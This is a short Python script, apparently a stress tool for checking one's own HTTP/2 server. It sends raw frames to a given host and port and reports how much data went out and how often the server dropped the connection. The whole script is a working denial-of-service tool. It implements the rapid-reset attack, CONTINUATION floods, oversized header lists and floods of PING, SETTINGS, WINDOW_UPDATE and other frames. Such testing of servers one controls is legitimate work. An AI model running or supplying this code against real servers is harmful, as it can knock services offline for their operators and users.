"""What a client can do that makes work and brings nothing, each for a while beside an honest provider.

    hostile.py HOST:PORT SECONDS [--once]

Prints a line for each: bytes sent, and how often it was sent away. With --once each ends when it was.
"""
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload

def field(name, value):
    return b"\0" + bytes([len(name)]) + name + b"\x7f" + number(len(value) - 127) + value if len(value) > 126 \
        else b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value

def number(rest):
    out = b""
    while rest > 127:
        out += bytes([rest & 127 | 128])
        rest >>= 7
    return out + bytes([rest])

HEAD = b"".join(field(*pair) for pair in [(b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/3/device/00"),
                                          (b":authority", b"a")])
OPEN = frame(1, 4, 1, HEAD)
ENDLESS = {
    "empty DATA": frame(0, 0, 1), "DATA of one byte": frame(0, 0, 1, b"x"),
    "WINDOW_UPDATE": frame(8, 0, 0, b"\0\0\0\1"), "unknown frames": frame(0x77, 0, 0, b"abc"),
    "PRIORITY": frame(2, 0, 1, b"\0\0\0\0\1"), "RST_STREAM of a closed stream": frame(3, 0, 1, b"\0\0\0\x08"),
    "PING": frame(6, 0, 0, b"12345678"), "SETTINGS": frame(4, 0, 0),
}

def streams(make):
    return lambda first: b"".join(make(first + 2 * index) for index in range(100))

LONG = b"".join(field(name, b"x" * 3000) for name in (b"a", b"b", b"c"))
BY_STREAM = {
    "rapid reset": streams(lambda id: frame(1, 4, id, HEAD) + frame(3, 0, id, b"\0\0\0\x08")),
    "resets made by the server": streams(lambda id: frame(1, 5, id, field(b":method", b"GET"))),
    "header lists over the limit": streams(lambda id: frame(1, 5, id, HEAD + LONG)),
    "CONTINUATION without end": streams(lambda id: frame(1, 0, id, HEAD) + b"".join(frame(9, 0, id) for _ in range(20))),
}

def attack(address, name, seconds, once):
    end = time.monotonic() + seconds
    sent = away = 0
    while time.monotonic() < end and not (once and away):
        try:
            peer = socket.create_connection(address, 2)
            peer.settimeout(.2)
            peer.sendall(PREFACE + frame(4, 0, 0) + (OPEN if name in ENDLESS else b""))
            if name.startswith("RST"):
                peer.sendall(frame(3, 0, 1, b"\0\0\0\x08"))
            first = 3
            while time.monotonic() < end:
                try:
                    part = ENDLESS[name] * 500 if name in ENDLESS else BY_STREAM[name](first)
                    first += 200
                    sent += len(part)
                    peer.sendall(part)
                    peer.setblocking(False)
                    try:
                        if peer.recv(1 << 20) == b"":
                            away += 1
                            break
                    except BlockingIOError:
                        pass
                    peer.settimeout(1.5)
                except TimeoutError:
                    continue
            peer.close()
        except OSError:
            away += 1
    return sent, away

if __name__ == "__main__":
    host, port = sys.argv[1].rsplit(":", 1)
    for name in [*ENDLESS, *BY_STREAM]:
        sent, away = attack((host, int(port)), name, float(sys.argv[2]), "--once" in sys.argv)
        print(f"{name:32} {sent / 1e6:8.1f} MB, sent away {away} times", flush=True)
